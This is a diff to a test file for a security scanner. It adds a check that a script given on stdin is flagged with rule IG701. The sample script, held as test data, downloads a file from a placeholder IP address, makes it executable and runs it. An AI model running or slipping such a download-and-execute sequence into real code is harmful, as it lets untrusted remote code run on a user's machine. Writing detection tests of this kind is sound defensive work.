@@ -201,6 +201,12 @@ def test_stdin_as_config_and_as_script(tmp_path, capsys, monkeypatch):
     assert "IG701" in {f["rule_id"] for f in json.loads(capsys.readouterr().out)["findings"]}
     _stdin(monkeypatch, b"# Plain notes\nUse tabs.\n")
     assert main(["scan", "-", "--as", ".cursor/rules/style.mdc"]) == 0
+    capsys.readouterr()
+    # no #! line: the language its lines are written in decides which analysis reads it
+    _stdin(monkeypatch, b"import os, subprocess, urllib.request\nurllib.request.urlretrieve('http://198.51.100.4/t', '/tmp/t')\n"
+                        b"os.chmod('/tmp/t', 0o755)\nsubprocess.run(['/tmp/t'])\n")
+    assert main(["scan", "-", "--as", "script", "--format", "json"]) == 1
+    assert "IG701" in {f["rule_id"] for f in json.loads(capsys.readouterr().out)["findings"]}
 
 
 def test_binary_stdin_fails_and_misuse_is_a_usage_error(tmp_path, capsys, monkeypatch):
